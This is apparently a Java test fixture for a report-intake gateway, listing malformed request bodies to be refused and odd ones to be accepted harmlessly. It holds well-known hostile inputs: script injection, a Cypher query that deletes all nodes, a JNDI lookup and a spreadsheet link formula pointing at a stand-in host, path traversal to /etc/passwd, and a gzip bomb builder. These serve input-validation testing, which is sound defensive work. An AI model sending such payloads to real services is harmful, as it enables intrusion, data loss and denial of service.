package io.watchfloor.gateway.bad;

import io.watchfloor.gateway.Samples;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.zip.GZIPOutputStream;

/** Bodies of {@code POST /reports} that must be refused, and such that are odd but sound. */
final class BadReports {
    private static final int DEPTH = 100_000;
    private static final int BOMB_BYTES = 40 * 1024 * 1024;

    private BadReports() {}

    /** By what is wrong with them. */
    static Map<String, byte[]> refused() {
        Map<String, byte[]> bodies = new LinkedHashMap<>();
        bodies.put("empty", new byte[0]);
        bodies.put("blank", bytes("  \n"));
        bodies.put("truncated", bytes(sound().substring(0, sound().length() - 9)));
        bodies.put("not JSON", bytes("source=hotline"));
        bodies.put("an array", bytes("[" + sound() + "]"));
        bodies.put("a number", bytes("7"));
        bodies.put("null", bytes("null"));
        bodies.put("two documents", bytes(sound() + sound()));
        bodies.put("invalid UTF-8", invalidUtf8());
        bodies.put("NUL in a word", bytes(sound().replace("hotline", "hot\u0000line")));
        bodies.put("lone surrogate", bytes(with("text", "\"\\ud83d\"")));
        bodies.put("depth 100,000", bytes("[".repeat(DEPTH)));
        bodies.put("depth in a field", bytes(with("text", "[".repeat(5_000) + "]".repeat(5_000))));
        bodies.put("text of a megabyte", bytes(with("text", "\"" + "火".repeat(350_000) + "\"")));
        bodies.put("NaN", bytes(with("lat", "NaN")));
        bodies.put("1e999", bytes(with("lat", "1e999")));
        bodies.put("number for a word", bytes(with("source", "9007199254740993")));
        bodies.put("word for a number", bytes(with("lat", "\"north\"")));
        bodies.put("an object for a word", bytes(with("text", "{\"$ne\": null}")));
        bodies.put("unknown field", bytes(with("lattitude", "30.2")));
        bodies.put("unknown kind", bytes(with("kind", "\"rumour\"")));
        bodies.put("swapped position", bytes(with("lat", "120.1").replace("\"lon\":120", "\"lon\":30")));
        bodies.put("lat out of range", bytes(with("lat", "-90.01")));
        bodies.put("lon out of range", bytes(with("lon", "180.01")));
        bodies.put("null island", bytes(with("lat", "0.0").replaceFirst("\"lon\":[0-9.]+", "\"lon\":-0.0")));
        bodies.put("half a position", bytes(with("lat", "null")));
        bodies.put("seconds for a time", bytes(with("occurredAt", "1772352890")));
        bodies.put("time of 1970", bytes(with("occurredAt", "\"1970-01-21T12:19:12Z\"")));
        bodies.put("seconds as a text", bytes(with("occurredAt", "\"1772352890\"")));
        bodies.put("milliseconds as a text", bytes(with("occurredAt", "\"1772352890000\"")));
        bodies.put("milliseconds for a time", bytes(with("occurredAt", "1772352890000")));
        bodies.put("duplicate keys", bytes(sound().replaceFirst("\\{", "{\"type\":\"noise\",")));
        bodies.put("version that nobody knows", bytes(with("version", "99")));
        bodies.put("year 9999", bytes(with("occurredAt", "\"9999-12-31T00:00:00Z\"")));
        bodies.put("a time without zone", bytes(with("occurredAt", "\"2026-03-01T08:14:50\"")));
        bodies.put("no such day", bytes(with("occurredAt", "\"2026-02-30T08:14:50Z\"")));
        bodies.put("id too long", bytes(with("sourceId", "\"" + "x".repeat(5_000) + "\"")));
        bodies.put("id empty", bytes(with("sourceId", "\"\"")));
        bodies.put("source of another form", bytes(with("source", "\"../../etc/passwd\"")));
        bodies.put("source with a line break", bytes(with("source", "\"a\\nb\"")));
        return bodies;
    }

    /** Odd, but they say something: they must be taken and not carry out what they say. */
    static Map<String, String> taken() {
        Map<String, String> bodies = new LinkedHashMap<>();
        bodies.put("HTML", with("text", "\"<script>alert(1)</script><img src=x onerror=alert(1)>\""));
        bodies.put("Cypher", with("text", "\"'}) MATCH (n) DETACH DELETE n //\""));
        bodies.put("CSV formula", with("text", "\"=HYPERLINK(\\\"http://elsewhere.example\\\")\""));
        bodies.put("bidi", with("text", "\"\\u202Egnp.exe\\u202C 起火\""));
        bodies.put("homoglyphs", with("text", "\"fіre at the mаrket\""));
        bodies.put("emoji and rare signs", with("text", "\"🔥𠮷野家 着火了\""));
        bodies.put("personal data", with("text", "\"我叫张三，身份证 110101199003077774，电话 13800138000\""));
        bodies.put("log forging", with("text", "\"ok\\r\\n2026-01-01 ERROR forged\""));
        bodies.put("template", with("text", "\"${jndi:ldap://elsewhere.example/a} {{7*7}} %s%n\""));
        return bodies;
    }

    /** A gzip of nothing but blanks, a thousand times as large as it looks. */
    static byte[] bomb() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            gzip.write(" ".repeat(BOMB_BYTES).getBytes(StandardCharsets.US_ASCII));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** The sound report with this field replaced or added, as it stands. */
    static String with(String field, String json) {
        String sound = sound();
        String there = sound.replaceFirst(
                "\"" + field + "\":(\"[^\"]*\"|[^,}]*)", Matcher.quoteReplacement("\"" + field + "\":" + json));
        return there.equals(sound) ? "{\"" + field + "\":" + json + "," + sound.substring(1) : there;
    }

    private static String sound() {
        return Samples.report("bad-" + System.nanoTime()).toString();
    }

    private static byte[] invalidUtf8() {
        byte[] bytes = bytes(sound().replace("hotline", "hotl@ne"));
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = bytes[i] == '@' ? (byte) 0xFF : bytes[i];
        }
        return bytes;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
